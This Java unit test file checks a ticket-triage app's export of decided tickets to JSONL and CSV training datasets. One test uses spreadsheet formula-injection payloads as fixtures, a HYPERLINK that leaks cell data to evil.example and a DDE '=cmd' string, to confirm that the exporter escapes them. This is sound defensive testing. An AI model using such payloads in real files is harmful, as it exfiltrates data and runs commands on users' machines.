package dev.switchboard.app.export;

import static dev.switchboard.app.export.ExportTestSupport.JSON;
import static dev.switchboard.app.export.ExportTestSupport.TEAMS;
import static dev.switchboard.app.export.ExportTestSupport.jsonLines;
import static dev.switchboard.app.export.ExportTestSupport.manifest;
import static dev.switchboard.app.export.ExportTestSupport.many;
import static dev.switchboard.app.export.ExportTestSupport.ticket;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.switchboard.app.Workspace;
import dev.switchboard.inference.TicketText;
import dev.switchboard.inference.TriageContext;
import dev.switchboard.inference.llm.PromptBuilder;
import dev.switchboard.persistence.entity.DecisionKind;
import dev.switchboard.persistence.store.DecisionLedger;
import dev.switchboard.persistence.store.DecisionRecord;
import dev.switchboard.persistence.store.DecisionRequest;
import dev.switchboard.persistence.store.ExportQuery;
import dev.switchboard.persistence.store.QueueRow;
import dev.switchboard.persistence.store.SuggestionData;
import java.io.IOException;
import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ExportServiceTest {

    @TempDir Path dir;
    Workspace ws;
    ExportService svc;
    DecisionLedger ledger;
    static final Instant T0 = Instant.parse("2024-03-01T09:00:00Z");

    @BeforeEach
    void open() {
        ws = ExportTestSupport.open(dir);
        svc = ExportService.of(ws);
        ledger = new DecisionLedger(ws.store());
    }

    @AfterEach
    void close() {
        ws.close();
    }

    private long id(String externalId) {
        return ws.store().queue().stream().filter(r -> externalId.equals(r.externalId())).findFirst().orElseThrow().id();
    }

    private QueueRow row(long id) {
        return ws.store().rows(List.of(id)).get(0);
    }

    private DecisionRecord decide(long id, DecisionKind kind, String team, Long suggestion, String note, boolean reviewed) {
        return ledger.decide(new DecisionRequest(id, row(id).version(), kind, team, null, suggestion, null, note, "lead",
                null, reviewed, null)).join();
    }

    private ExportResult export(ExportOptions o) throws IOException {
        return svc.run(o, ExportService.Progress.NONE, () -> false);
    }

    private ExportOptions opts(ExportFormat f, String sub) {
        return ExportOptions.defaults(f, dir.resolve(sub));
    }

    @Test
    void openAiJsonlHasSystemUserAssistantBuiltWithTheEnginePrompts() throws Exception {
        ws.store().saveTickets(List.of(
                ticket("a", "VPN drops every hour", "The tunnel disconnects.", "Ann", T0, "Network", "P2"),
                ticket("b", "Printer jam", "Floor 2 printer.", "Bob", T0.plusSeconds(60), "Desktop", "P3"),
                ticket("c", "Password expired", "Cannot log in.", "Cy", T0.plusSeconds(120), "Identity", null)), "import").join();
        ExportResult r = export(opts(ExportFormat.OPENAI_JSONL, "oa"));
        Path file = dir.resolve("oa/dataset.jsonl");
        List<JsonNode> lines = jsonLines(file);
        assertThat(lines).hasSize(3);
        String system = new PromptBuilder().systemMessage(TriageContext.of(svc.taxonomy()));
        for (JsonNode l : lines) {
            assertThat(l.fieldNames()).toIterable().containsExactly("messages");
            JsonNode m = l.get("messages");
            assertThat(m).hasSize(3);
            assertThat(List.of(m.get(0).get("role").asText(), m.get(1).get("role").asText(), m.get(2).get("role").asText()))
                    .containsExactly("system", "user", "assistant");
            assertThat(m.get(0).get("content").asText()).isEqualTo(system);
            assertThat(m.get(1).get("content").asText()).contains("<<<BEGIN UNTRUSTED TICKET").contains("Ticket to triage:");
            JsonNode reply = JSON.readTree(m.get(2).get("content").asText());
            assertThat(TEAMS).contains(reply.get("team").asText());
            assertThat(reply.has("priority")).isTrue();
        }
        JsonNode first = lines.get(0).get("messages");
        assertThat(first.get(1).get("content").asText()).contains("Subject: VPN drops every hour");
        assertThat(first.get(2).get("content").asText())
                .isEqualTo(PromptBuilder.expectedReplyJson("Network", "P2", null));
        assertThat(JSON.readTree(lines.get(2).get("messages").get(2).get("content").asText()).get("priority").asText()).isEmpty();
        // manifest: schema, counts, sha-256 of the file as written
        JsonNode man = manifest(dir.resolve("oa"));
        assertThat(man.get("schema_version").asInt()).isEqualTo(ExportService.SCHEMA_VERSION);
        // which build wrote it: the version --version prints ("dev" when run from classes, as here)
        assertThat(man.get("app_version").asText()).isEqualTo(dev.switchboard.app.AppVersion.current()).isEqualTo("dev");
        assertThat(man.at("/splits/all/rows").asLong()).isEqualTo(3);
        assertThat(man.at("/splits/all/teams/Network").asLong()).isEqualTo(1);
        assertThat(man.at("/splits/all/priorities/P2").asLong()).isEqualTo(1);
        assertThat(man.at("/date_range/created_from").asText()).isEqualTo(T0.toString());
        assertThat(man.at("/files/0/sha256").asText()).isEqualTo(sha256(file)).isEqualTo(r.files().get(0).sha256());
        // zero-shot: no retrieved example tickets, as the live engine sends it with k = 0, and the manifest says so
        assertThat(first.get(1).get("content").asText()).contains("Decided example tickets similar to this one:\n"
                + "(no similar decided tickets yet)");
        assertThat(man.at("/prompt/examples").asText()).isEqualTo("none");
        assertThat(man.at("/prompt/examples_note").asText()).contains("Examples (k) at 0");
        assertThat(man.at("/files/0/bytes").asLong()).isEqualTo(Files.size(file));
    }

    @Test
    void instructionJsonlAndCsvCarryTheSameLabels() throws Exception {
        ws.store().saveTickets(List.of(
                ticket("a", "VPN drops", "Tunnel, \"quoted\"\nsecond line", "Ann", T0, "Network", "P2"),
                ticket("b", "Printer jam", "Floor 2", "Bob", T0.plusSeconds(60), "Desktop", "P3")), "import").join();
        export(opts(ExportFormat.INSTRUCTION_JSONL, "in"));
        List<JsonNode> lines = jsonLines(dir.resolve("in/dataset.jsonl"));
        assertThat(lines).hasSize(2);
        String system = new PromptBuilder().systemMessage(TriageContext.of(svc.taxonomy()));
        for (JsonNode l : lines) {
            assertThat(l.fieldNames()).toIterable().containsExactly("instruction", "input", "output");
            assertThat(l.get("instruction").asText()).isEqualTo(system);
            assertThat(TEAMS).contains(JSON.readTree(l.get("output").asText()).get("team").asText());
        }
        export(opts(ExportFormat.CSV, "csv"));
        List<CSVRecord> recs;
        try (Reader rd = Files.newBufferedReader(dir.resolve("csv/dataset.csv"))) {
            recs = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd).getRecords();
        }
        assertThat(recs).hasSize(2);
        assertThat(recs.get(0).get("final_team")).isEqualTo("Network");
        assertThat(recs.get(0).get("final_priority")).isEqualTo("P2");
        assertThat(recs.get(0).get("decision_kind")).isEqualTo("imported");
        assertThat(recs.get(0).get("text")).isEqualTo("VPN drops\nTunnel, \"quoted\"\nsecond line");
        assertThat(recs.get(1).get("final_team")).isEqualTo("Desktop");
        assertThat(recs.get(1).get("created_at")).isEqualTo(T0.plusSeconds(60).toString());
    }

    @Test
    void aTicketIsExportedWithTheUpdatesItHadWhenDecidedAsTheEngineSendsIt() throws Exception {
        ws.store().saveTickets(List.of(
                ticket("c", "VPN drops every hour", "The tunnel disconnects.", "Ann", T0, null, null),
                ticket("plain", "Printer jam", "Floor 2 printer.", "Bob", T0.plusSeconds(60), null, null)), "import").join();
        long c = id("c");
        long plain = id("plain");
        String before = "Also happens on the guest Wi-Fi since the router swap.";
        String after = "Fixed by renewing the certificate.";
        ws.store().addUpdate(c, "ann", before).join();
        decide(c, DecisionKind.OVERRIDDEN, "Network", null, null, true);
        decide(plain, DecisionKind.OVERRIDDEN, "Desktop", null, null, true);
        ws.store().addUpdate(c, "bob", after).join();

        export(opts(ExportFormat.OPENAI_JSONL, "oa"));
        List<JsonNode> lines = jsonLines(dir.resolve("oa/dataset.jsonl"));
        assertThat(lines).hasSize(2);
        TriageContext ctx = TriageContext.of(svc.taxonomy());
        String user = lines.get(0).get("messages").get(1).get("content").asText();
        String boundary = boundary(user);
        PromptBuilder live = new PromptBuilder(PromptBuilder.Template.defaults(), PromptBuilder.Limits.defaults(), () -> boundary);
        assertThat(user).isEqualTo(live.userMessage(new TicketText(Long.toString(c), "VPN drops every hour",
                "The tunnel disconnects.", List.of(before)), ctx));
        assertThat(user).contains("Updates (oldest first):\n- " + before).doesNotContain(after);
        String plainUser = lines.get(1).get("messages").get(1).get("content").asText();
        String plainBoundary = boundary(plainUser);
        assertThat(plainUser).isEqualTo(new PromptBuilder(PromptBuilder.Template.defaults(), PromptBuilder.Limits.defaults(),
                () -> plainBoundary).userMessage(TicketText.of(Long.toString(plain), "Printer jam", "Floor 2 printer."), ctx))
                .doesNotContain("Updates");

        export(opts(ExportFormat.INSTRUCTION_JSONL, "in"));
        String input = jsonLines(dir.resolve("in/dataset.jsonl")).get(0).get("input").asText();
        assertThat(input).isEqualTo(user);

        export(opts(ExportFormat.CSV, "csv"));
        List<CSVRecord> recs;
        try (Reader rd = Files.newBufferedReader(dir.resolve("csv/dataset.csv"))) {
            recs = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd).getRecords();
        }
        assertThat(recs.get(0).get("text")).isEqualTo("VPN drops every hour\nThe tunnel disconnects.");
        assertThat(JSON.readValue(recs.get(0).get("updates"), String[].class)).containsExactly(before);
        assertThat(recs.get(1).get("updates")).isEqualTo("[]");
        JsonNode man = manifest(dir.resolve("csv"));
        assertThat(man.get("schema_version").asInt()).isEqualTo(2);
        assertThat(man.at("/text/csv_updates_column").asText()).contains("JSON array");
    }

    @Test
    void afterAnUndoTheExportAndTheModelHistoryCarryTheUpdatesTheRestoredDecisionWasMadeOn() throws Exception {
        ws.store().saveTickets(List.of(
                ticket("undo", "VPN drops every hour", "The tunnel disconnects.", "Ann", T0, null, null),
                ticket("resolve", "Printer jam", "Floor 2 printer.", "Bob", T0.plusSeconds(60), null, null)), "import").join();
        long undo = id("undo");
        long resolve = id("resolve");
        // decided on "error 809"; the later comments came after that decision, and the decision that came
        // after them was undone: the label is the first decision again, made on the first comment only
        ws.store().addUpdate(undo, "ann", "error 809 on the VPN client").join();
        decide(undo, DecisionKind.ACCEPTED, "Network", null, null, true);
        ws.store().addUpdate(undo, "bob", "the badge reader at the door fails too").join();
        DecisionRecord wrong = decide(undo, DecisionKind.OVERRIDDEN, "Identity", null, null, true);
        ws.store().addUpdate(undo, "cy", "Identity had a look: not theirs").join();
        ledger.undo(wrong.id(), "lead").join();
        ws.store().addUpdate(undo, "cy", "after the undo").join();
        // undoing a resolve decides no team: the label stays the accept and its text
        decide(resolve, DecisionKind.ACCEPTED, "Desktop", null, null, true);
        ws.store().addUpdate(resolve, "bob", "fixed by clearing tray 2").join();
        DecisionRecord resolved = decide(resolve, DecisionKind.RESOLVED, null, null, null, true);
        ledger.undo(resolved.id(), "lead").join();

        export(opts(ExportFormat.CSV, "csv"));
        Map<String, List<String>> exported = new HashMap<>();
        Map<String, String> exportedTeam = new HashMap<>();
        try (Reader rd = Files.newBufferedReader(dir.resolve("csv/dataset.csv"))) {
            for (CSVRecord r : CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd)) {
                exported.put(r.get("ticket_id"), List.of(JSON.readValue(r.get("updates"), String[].class)));
                exportedTeam.put(r.get("ticket_id"), r.get("final_team"));
            }
        }
        Map<String, List<String>> learned = new HashMap<>();
        Map<String, String> learnedTeam = new HashMap<>();
        for (var r : ws.store().labelledHistory()) {
            learned.put(Long.toString(r.id()), r.updates());
            learnedTeam.put(Long.toString(r.id()), r.team());
        }
        assertThat(exportedTeam).containsEntry(Long.toString(undo), "Network").isEqualTo(learnedTeam);
        assertThat(exported.get(Long.toString(undo))).containsExactly("error 809 on the VPN client");
        assertThat(exported.get(Long.toString(resolve))).isEmpty();
        assertThat(learned).as("the local model's history").isEqualTo(exported);
        // the online learner picks the same decision
        DecisionRecord label = DecisionLedger.labelDecision(ledger.decisions(undo));
        assertThat(label.kind()).isEqualTo("ACCEPTED");
        assertThat(label.team()).isEqualTo("Network");
        assertThat(DecisionLedger.labelDecision(ledger.decisions(resolve)).kind()).isEqualTo("ACCEPTED");
    }

    @Test
    void aMergedDuplicateIsLeftOutAndCountedAndAnUndoneMergesTextIsNotTheOriginals() throws Exception {
        ws.store().saveTickets(List.of(
                ticket("orig", "Monitor flickers", "On the dock.", "Hal", T0, null, null),
                ticket("dup", "Monitor flickers again", "On the dock DUPTEXT.", "Ida", T0.plusSeconds(60), null, null),
                ticket("badge", "Badge reader broken", "Door 4.", "Quin", T0.plusSeconds(120), null, null),
                ticket("unmerged", "Badge reader door 4", "UNMERGED-TEXT beeps red.", "Rui", T0.plusSeconds(180), null, null)),
                "import").join();
        long orig = id("orig");
        long dup = id("dup");
        long badge = id("badge");
        long unmerged = id("unmerged");
        var links = new dev.switchboard.persistence.store.DuplicateLinks(ws.store());
        decide(dup, DecisionKind.OVERRIDDEN, "Desktop", null, null, true);
        links.merge(dup, orig, 0.93, "lead").join();
        decide(orig, DecisionKind.OVERRIDDEN, "Desktop", null, null, true);
        links.merge(unmerged, badge, 0.8, "lead").join();
        links.resolve(unmerged, badge, dev.switchboard.persistence.entity.DuplicateLink.State.UNDONE, 0, "lead").join();
        decide(badge, DecisionKind.OVERRIDDEN, "Identity", null, null, true);
        decide(unmerged, DecisionKind.OVERRIDDEN, "Identity", null, null, true);

        ExportResult r = export(opts(ExportFormat.CSV, "csv").withRedaction(false, List.of())); // as stored, as the model reads it
        Map<String, List<String>> updates = new HashMap<>();
        try (Reader rd = Files.newBufferedReader(dir.resolve("csv/dataset.csv"))) {
            for (CSVRecord rec : CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd)) {
                updates.put(rec.get("ticket_id"), List.of(JSON.readValue(rec.get("updates"), String[].class)));
            }
        }
        // the duplicate's text is once in the set: in the original's update, not also as a row of its own
        assertThat(updates).containsOnlyKeys(Long.toString(orig), Long.toString(badge), Long.toString(unmerged));
        assertThat(updates.get(Long.toString(orig))).singleElement().asString().contains("DUPTEXT");
        // the undone merge's text is the other ticket's again, not the original's
        assertThat(updates.get(Long.toString(badge))).isEmpty();
        assertThat(Files.readString(dir.resolve("csv/dataset.csv"))).containsOnlyOnce("UNMERGED-TEXT").containsOnlyOnce("DUPTEXT");
        assertThat(r.written()).isEqualTo(3);
        assertThat(r.mergedDuplicates()).isEqualTo(1);
        JsonNode man = manifest(dir.resolve("csv"));
        assertThat(man.at("/dropped/merged_duplicates").asLong()).isEqualTo(1);
        assertThat(man.get("matched").asLong()).isEqualTo(3);
        // the local model learns the same text
        for (var l : ws.store().labelledHistory()) {
            if (updates.containsKey(Long.toString(l.id()))) assertThat(l.updates()).isEqualTo(updates.get(Long.toString(l.id())));
        }
    }

    @Test
    void aHugeBodyFitsInOneSpreadsheetCellAndSaysHowMuchWasCut() throws Exception {
        String body = "java.io.IOException: disk quota exceeded at line 42\n".repeat(4_000); // 208,000 chars
        ws.store().saveTickets(List.of(ticket("log", "Backup log attached", body, "Ann", T0, null, null)), "import").join();
        decide(id("log"), DecisionKind.OVERRIDDEN, "Desktop", null, null, true);

        export(opts(ExportFormat.CSV, "csv"));
        List<CSVRecord> recs;
        try (Reader rd = Files.newBufferedReader(dir.resolve("csv/dataset.csv"))) {
            recs = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd).getRecords();
        }
        String text = recs.get(0).get("text");
        // Excel holds at most 32,767 characters in a cell; a longer one is cut or spills into the next rows
        assertThat(text).hasSizeLessThanOrEqualTo(32_767).startsWith("Backup log attached\n" + body.substring(0, 1000));
        int kept = RowRenderer.CSV_CELL_MAX;
        assertThat(text).endsWith(" \u2026[truncated " + ("Backup log attached\n".length() + body.length() - kept) + " chars]");
        assertThat(manifest(dir.resolve("csv")).at("/text/csv_cell_max_chars").asInt()).isEqualTo(kept);
    }

    @Test
    void aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsText() throws Exception {
        String evil = "=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"Open ticket\")";
        ws.store().saveTickets(List.of(ticket("=cmd|' /C calc'!A0", evil, "-verified user details", "Ann", T0, null, null)),
                "import").join();
        long id = id("=cmd|' /C calc'!A0");
        decide(id, DecisionKind.OVERRIDDEN, "Desktop", null, "@dana said so", true);

        export(opts(ExportFormat.CSV, "csv"));
        CSVRecord rec;
        try (Reader rd = Files.newBufferedReader(dir.resolve("csv/dataset.csv"))) {
            rec = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd).getRecords().get(0);
        }
        assertThat(rec.get("external_id")).isEqualTo("'=cmd|' /C calc'!A0");
        assertThat(rec.get("text")).isEqualTo("'" + evil + "\n-verified user details");
        assertThat(rec.get("reason_note")).isEqualTo("'@dana said so");
        assertThat(rec.get("final_team")).isEqualTo("Desktop");
        assertThat(manifest(dir.resolve("csv")).at("/text/csv_formula_guard").asText()).contains("apostrophe");

        // JSON Lines are no spreadsheet: the text goes as it is
        export(opts(ExportFormat.OPENAI_JSONL, "oa"));
        String user = jsonLines(dir.resolve("oa/dataset.jsonl")).get(0).get("messages").get(1).get("content").asText();
        assertThat(user).contains(evil);
    }

    @Test
    void csvUpdatesAreClippedLikeTheLivePromptAndMatchTheJsonlUserMessage() throws Exception {
        ws.store().saveTickets(List.of(ticket("big", "Disk full", "The file server is out of space.", "Ann", T0, null, null)),
                "import").join();
        long big = id("big");
        PromptBuilder.Limits limits = PromptBuilder.Limits.defaults();
        String huge = "the file server disk is full again and the share is read only. ".repeat(14_000); // ~900,000 chars
        String first = "first: quota warnings since Monday";
        String second = "second: " + "old snapshots could go. ".repeat(limits.update() / 24);
        String third = "third: " + "the backup job failed overnight. ".repeat(limits.update() / 33);
        for (String u : List.of(first, second, third, huge)) ws.store().addUpdate(big, "ann", u).join();
        decide(big, DecisionKind.OVERRIDDEN, "Desktop", null, null, true);

        export(opts(ExportFormat.CSV, "csv"));
        Path csvFile = dir.resolve("csv/dataset.csv");
        assertThat(Files.size(csvFile)).as("a 900 KB comment does not make a 900 KB cell").isLessThan(10_000);
        List<CSVRecord> recs;
        try (Reader rd = Files.newBufferedReader(csvFile)) {
            recs = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd).getRecords();
        }
        List<String> csvUpdates = List.of(JSON.readValue(recs.get(0).get("updates"), String[].class));
        // the newest ones that fit in the prompt's budget, the huge one cut at the prompt's per-update limit
        assertThat(csvUpdates).hasSize(3);
        assertThat(csvUpdates.get(0)).isEqualTo("[2 earlier update(s) omitted]");
        assertThat(csvUpdates.get(1)).isEqualTo(third.strip());
        assertThat(csvUpdates.get(2)).startsWith(huge.substring(0, limits.update()))
                .contains("\u2026[truncated ").hasSizeLessThan(limits.update() + 40);
        assertThat(csvUpdates.stream().mapToInt(String::length).sum()).isLessThan(limits.updatesTotal() + 100);

        // the same updates the JSONL user message (what the LLM engine sends live) carries
        export(opts(ExportFormat.OPENAI_JSONL, "oa"));
        String user = jsonLines(dir.resolve("oa/dataset.jsonl")).get(0).get("messages").get(1).get("content").asText();
        String block = user.substring(user.indexOf("Updates (oldest first):\n") + "Updates (oldest first):\n".length(),
                user.indexOf("\n<<<END UNTRUSTED TICKET"));
        List<String> promptUpdates = block.lines().map(l -> l.startsWith("- ") ? l.substring(2) : l).toList();
        assertThat(csvUpdates).isEqualTo(promptUpdates);

        JsonNode man = manifest(dir.resolve("csv"));
        assertThat(man.at("/text/update_max_chars").asInt()).isEqualTo(limits.update());
        assertThat(man.at("/text/updates_max_chars").asInt()).isEqualTo(limits.updatesTotal());
        assertThat(man.at("/text/csv_updates_column").asText()).contains("clipped");
    }

    private static String boundary(String user) {
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("<<<BEGIN UNTRUSTED TICKET (\\S+)>>>").matcher(user);
        assertThat(m.find()).as(user).isTrue();
        return m.group(1);
    }

    @Test
    void theLabelIsTheFinalDecisionAfterTransfersAndUndos() throws Exception {
        ws.store().saveTickets(List.of(
                ticket("transfer", "VPN broken", "b", "x", T0, "Desktop", "P2"),
                ticket("undo", "Laptop fan", "b", "x", T0.plusSeconds(1), "Desktop", "P3"),
                ticket("accept", "MFA reset", "b", "x", T0.plusSeconds(2), null, null),
                ticket("twice", "Wi-Fi slow", "b", "x", T0.plusSeconds(3), "Desktop", "P3")), "import").join();
        long transfer = id("transfer");
        long undo = id("undo");
        long accept = id("accept");
        long twice = id("twice");
        decide(transfer, DecisionKind.TRANSFERRED, "Network", null, null, true);
        DecisionRecord wrong = decide(undo, DecisionKind.TRANSFERRED, "Identity", null, null, true);
        ledger.undo(wrong.id(), "lead").join();
        long sg = ws.store().saveSuggestion(accept, new SuggestionData("llm", "m", "OK", "Identity", "P2", 0.9, true,
                "Identity=0.9", "P2=0.8", "Identity (90%): 4 of 5 most similar decided tickets went there; 3 of this requester's 4 decided tickets went there; key terms: mfa",
                "", "", 10)).join();
        decide(accept, DecisionKind.ACCEPTED, "Identity", sg, null, true);
        decide(twice, DecisionKind.TRANSFERRED, "Identity", null, null, true);
        decide(twice, DecisionKind.TRANSFERRED, "Network", null, "routers are Network's", true);

        export(opts(ExportFormat.OPENAI_JSONL, "oa"));
        Map<String, JsonNode> replies = new HashMap<>();
        for (JsonNode l : jsonLines(dir.resolve("oa/dataset.jsonl"))) {
            String user = l.get("messages").get(1).get("content").asText();
            String subject = user.substring(user.indexOf("Subject: ") + 9, user.indexOf('\n', user.indexOf("Subject: ")));
            replies.put(subject, JSON.readTree(l.get("messages").get(2).get("content").asText()));
        }
        assertThat(replies.get("VPN broken").get("team").asText()).isEqualTo("Network");
        assertThat(replies.get("Laptop fan").get("team").asText()).isEqualTo("Desktop");
        assertThat(replies.get("MFA reset").get("team").asText()).isEqualTo("Identity");
        // the exported prompt has no requester, so the target does not speak of one
        assertThat(replies.get("MFA reset").get("rationale").asText())
                .isEqualTo("Identity (90%): 4 of 5 most similar decided tickets went there; key terms: mfa");
        assertThat(replies.get("MFA reset").get("priority").asText()).isEmpty();
        assertThat(replies.get("Wi-Fi slow").get("team").asText()).isEqualTo("Network");
        assertThat(replies.get("Wi-Fi slow").get("rationale").asText()).isEqualTo("routers are Network's");

        export(opts(ExportFormat.CSV, "csv"));
        String csv = Files.readString(dir.resolve("csv/dataset.csv"));
        assertThat(csv).contains("Laptop fan\nb\",Desktop,P3,,,,,,imported");
        // --kinds filters on the final decision's kind
        ExportOptions onlyTransfers = opts(ExportFormat.CSV, "k").withQuery(
                new ExportQuery(null, null, Set.of(), Set.of(DecisionKind.TRANSFERRED), null));
        assertThat(export(onlyTransfers).written()).isEqualTo(2);
        ExportOptions onlyNetwork = opts(ExportFormat.CSV, "t").withQuery(
                new ExportQuery(null, null, Set.of("Network"), Set.of(), null));
        assertThat(export(onlyNetwork).written()).isEqualTo(2);
    }

    @Test
    void unreviewedBulkAcceptsAreLeftOutUnlessAskedFor() throws Exception {
        ws.store().saveTickets(List.of(
                ticket("a", "One", "b", "x", T0, null, null),
                ticket("b", "Two", "b", "x", T0.plusSeconds(1), null, null),
                ticket("c", "Three", "b", "x", T0.plusSeconds(2), "Desktop", null)), "import").join();
        long a = id("a");
        long b = id("b");
        ledger.decideAll(List.of(
                DecisionRequest.of(a, row(a).version(), DecisionKind.BULK_ACCEPTED, "Network", "P1", null, "lead"),
                new DecisionRequest(b, row(b).version(), DecisionKind.BULK_ACCEPTED, "Identity", "P1", null, null, null,
                        "lead", null, true, null))).join();
        ExportResult r = export(opts(ExportFormat.CSV, "default"));
        assertThat(r.written()).isEqualTo(2);
        assertThat(r.excludedUnreviewed()).isEqualTo(1);
        assertThat(Files.readString(dir.resolve("default/dataset.csv"))).doesNotContain("One").contains("Two").contains("Three");
        assertThat(manifest(dir.resolve("default")).get("excluded_unreviewed").asLong()).isEqualTo(1);
        ExportResult all = export(opts(ExportFormat.CSV, "all").withIncludeUnreviewed(true));
        assertThat(all.written()).isEqualTo(3);
        assertThat(Files.readString(dir.resolve("all/dataset.csv"))).contains("One");
    }

    @Test
    void balancingCapsLargeTeamsDropsSmallOnesAndIsDeterministic() throws Exception {
        List<dev.switchboard.persistence.store.NewTicket> batch = new ArrayList<>();
        batch.addAll(many("Network", 60, T0, "n"));
        batch.addAll(many("Desktop", 12, T0, "d"));
        batch.addAll(many("Identity", 3, T0, "i"));
        ws.store().saveTickets(batch, "import").join();
        ExportOptions o = opts(ExportFormat.OPENAI_JSONL, "b1").withBalance(Balance.parse("max-per-team=10,min-per-team=5"));
        ExportResult r = export(o);
        assertThat(r.written()).isEqualTo(20);
        assertThat(r.droppedCapped()).containsExactlyInAnyOrderEntriesOf(Map.of("Network", 50L, "Desktop", 2L));
        assertThat(r.smallTeams()).containsExactlyEntriesOf(Map.of("Identity", 3L));
        JsonNode man = manifest(dir.resolve("b1"));
        assertThat(man.at("/splits/all/teams/Network").asLong()).isEqualTo(10);
        assertThat(man.at("/splits/all/teams/Desktop").asLong()).isEqualTo(10);
        assertThat(man.at("/splits/all/teams").has("Identity")).isFalse();
        assertThat(man.at("/dropped/capped_by_max_per_team/Network").asLong()).isEqualTo(50);
        assertThat(man.at("/dropped/small_teams_dropped/Identity").asLong()).isEqualTo(3);
        assertThat(man.at("/dropped/total").asLong()).isEqualTo(55);
        // same seed, same rows; another seed samples differently
        ExportResult again = export(o.withQuery(o.query()).withOverwrite(true));
        assertThat(again.files().get(0).sha256()).isEqualTo(r.files().get(0).sha256());
        ExportResult other = export(opts(ExportFormat.OPENAI_JSONL, "b2").withBalance(o.balance()).withSeed(7));
        assertThat(other.written()).isEqualTo(20);
        assertThat(other.files().get(0).sha256()).isNotEqualTo(r.files().get(0).sha256());
        // small=report keeps the small team but names it
        ExportResult report = export(opts(ExportFormat.CSV, "b3").withBalance(Balance.parse("max-per-team=10,min-per-team=5,small=report")));
        assertThat(report.written()).isEqualTo(23);
        assertThat(manifest(dir.resolve("b3")).at("/dropped/small_teams_reported/Identity").asLong()).isEqualTo(3);
    }

    @Test
    void randomSplitIsStratifiedExactAndDeterministic() throws Exception {
        List<dev.switchboard.persistence.store.NewTicket> batch = new ArrayList<>();
        batch.addAll(many("Network", 50, T0, "n"));
        batch.addAll(many("Desktop", 20, T0, "d"));
        ws.store().saveTickets(batch, "import").join();
        ExportOptions o = opts(ExportFormat.CSV, "s1").withSplit(Split.parse("random:0.2"));
        ExportResult r = export(o);
        assertThat(r.rowsBySplit()).containsEntry("train", 56L).containsEntry("validation", 14L);
        JsonNode man = manifest(dir.resolve("s1"));
        assertThat(man.at("/splits/validation/teams/Network").asLong()).isEqualTo(10);
        assertThat(man.at("/splits/validation/teams/Desktop").asLong()).isEqualTo(4);
        Set<String> train = ids(dir.resolve("s1/train.csv"));
        Set<String> val = ids(dir.resolve("s1/validation.csv"));
        assertThat(train).hasSize(56).doesNotContainAnyElementsOf(val);
        export(opts(ExportFormat.CSV, "s2").withSplit(o.split()));
        assertThat(ids(dir.resolve("s2/validation.csv"))).isEqualTo(val);
    }

    @Test
    void randomSplitKeepsIdenticalTextsOnOneSideInEveryTeam() throws Exception {
        List<dev.switchboard.persistence.store.NewTicket> batch = new ArrayList<>();
        batch.addAll(many("Network", 40, T0, "n"));
        batch.addAll(many("Desktop", 20, T0, "d"));
        // a recurring alert, written slightly differently each time (case, spaces, punctuation)
        String[] alert = {"VPN alert: tunnel down", "vpn ALERT - tunnel down!", "VPN alert  tunnel down.", "Vpn alert; tunnel DOWN"};
        for (int i = 0; i < 12; i++) {
            batch.add(ticket("alert" + i, alert[i % alert.length], "Monitoring: gw-01 lost its peer.", "nagios",
                    T0.plusSeconds(3600L * i), "Network", "P2"));
        }
        // the same request labelled differently by two teams
        for (int i = 0; i < 5; i++) {
            batch.add(ticket("pw" + i, "Password reset", "Please reset my password.", "someone", T0.plusSeconds(7200L * i),
                    i < 3 ? "Identity" : "Network", "P3"));
        }
        batch.addAll(many("Identity", 17, T0, "i"));
        ws.store().saveTickets(batch, "import").join();

        for (String balance : new String[] {null, "max-per-team=30"}) {
            String sub = balance == null ? "all" : "capped";
            ExportOptions o = opts(ExportFormat.CSV, sub).withSplit(Split.parse("random:0.2")).withBalance(Balance.parse(balance));
            ExportResult r = export(o);
            Map<String, String> train = texts(dir.resolve(sub + "/train.csv"));
            Map<String, String> val = texts(dir.resolve(sub + "/validation.csv"));
            assertThat(val.values()).as(sub + ": no validation text is also a training text")
                    .doesNotContainAnyElementsOf(new java.util.HashSet<>(train.values()));
            JsonNode man = manifest(dir.resolve(sub));
            // a team of distinct texts: exactly round(0.2 * kept)
            assertThat(man.at("/splits/validation/teams/Desktop").asLong()).as(sub).isEqualTo(4);
            long network = man.at("/splits/train/teams/Network").asLong() + man.at("/splits/validation/teams/Network").asLong();
            assertThat(network).isEqualTo(balance == null ? 54 : 30);
            assertThat(r.written()).isEqualTo(balance == null ? 94 : 70);
            assertThat(man.at("/split/grouped_by").asText()).contains("normalised text");
            // seeded: the same validation rows again
            export(o.withOverwrite(true));
            assertThat(texts(dir.resolve(sub + "/validation.csv"))).isEqualTo(val);
        }
    }

    /** ticket_id -> normalised text of a CSV export file. */
    private static Map<String, String> texts(Path csv) throws IOException {
        Map<String, String> out = new HashMap<>();
        try (Reader rd = Files.newBufferedReader(csv)) {
            for (CSVRecord r : CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd)) {
                out.put(r.get("ticket_id"), TextSplit.normalise(r.get("text"), ""));
            }
        }
        return out;
    }

    @Test
    void theTextKeyFoldsCaseWhitespaceAndPunctuationOnly() {
        assertThat(TextSplit.normalise("VPN alert:  Tunnel DOWN!", "gw-01\nlost its peer."))
                .isEqualTo("vpn alert tunnel down gw 01 lost its peer");
